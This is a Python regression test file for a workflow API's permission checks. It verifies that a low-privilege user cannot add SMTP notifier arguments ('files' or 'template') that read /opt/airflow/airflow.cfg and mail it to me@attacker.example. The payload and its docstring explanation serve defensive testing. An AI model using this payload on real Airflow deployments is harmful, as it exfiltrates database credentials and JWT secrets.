"""A User (lacks Canvas Code) tries to mail themselves the server's files through a notification.

A notification with a short notifier name (``smtp``) passes its ``parameters`` to the provider class
as keyword arguments, and only ``$callable`` values among them counted as code. SMTP's own
arguments read files: ``files`` attaches any file the worker can read to the e-mail, ``template``
reads a path when the DAG file is parsed (``airflow.cfg``: the DB URL, the JWT secret). A User saved
``{"files": ["/opt/airflow/airflow.cfg"]}`` with their own address in ``to`` and a deploy showed
nothing to confirm. Now every argument of a notifier counts as code: 403 naming it, nothing stored,
and the deploy lists it for an Op."""

from __future__ import annotations

import itertools
from collections.abc import Callable
from typing import Any

import pytest
from fastapi.testclient import TestClient

from tests.integration.api.conftest import API, chain_spec

Headers = Callable[[str], dict[str, str]]
_seq = itertools.count()

READERS = [{"files": ["/opt/airflow/airflow.cfg"]}, {"template": "/opt/airflow/airflow.cfg"}]


def _with_mail(spec: dict[str, Any], parameters: dict[str, Any]) -> dict[str, Any]:
    mail = {"notifier": "smtp", "to": ["me@attacker.example"], "parameters": parameters}
    return {**spec, "notifications": [mail]}


@pytest.mark.parametrize("parameters", READERS, ids=lambda p: next(iter(p)))
def test_user_cannot_add_notifier_arguments(
    client: TestClient, auth: Headers, parameters: dict[str, Any]
) -> None:
    spec = chain_spec(f"mailer_{next(_seq)}")
    assert client.post(f"{API}/workflows", json={"spec": spec}, headers=auth("User")).status_code == 201
    evil = _with_mail(spec, parameters)
    # The argument really reaches the provider class in the generated file.
    source = client.post(f"{API}/compile", json={"spec": evil}, headers=auth("User")).json()["source"]
    name = next(iter(parameters))
    assert "SmtpNotifier(" in source and f"{name}=" in source and "/opt/airflow/airflow.cfg" in source
    r = client.put(
        f"{API}/workflows/{spec['id']}", json={"spec": evil, "base_version": 1}, headers=auth("User")
    )
    assert r.status_code == 403, r.text
    pointer = f"/notifications/0/parameters/{name}"
    assert any(p["code"] == "E_CODE_PERMISSION" and p["pointer"] == pointer for p in r.json()["problems"]), (
        r.text
    )
    head = client.get(f"{API}/workflows/{spec['id']}", headers=auth("Op")).json()
    assert head["version"] == 1 and not head["spec"].get("notifications")


def test_op_may_and_the_deploy_lists_it(client: TestClient, auth: Headers) -> None:
    spec = _with_mail(chain_spec(f"mailer_{next(_seq)}"), READERS[0])
    assert client.post(f"{API}/workflows", json={"spec": spec}, headers=auth("Op")).status_code == 201
    preview = client.get(f"{API}/workflows/{spec['id']}/deploy/preview", headers=auth("Op")).json()
    assert any(c["pointer"] == "/notifications/0/parameters/files" for c in preview["code_changes"]), preview
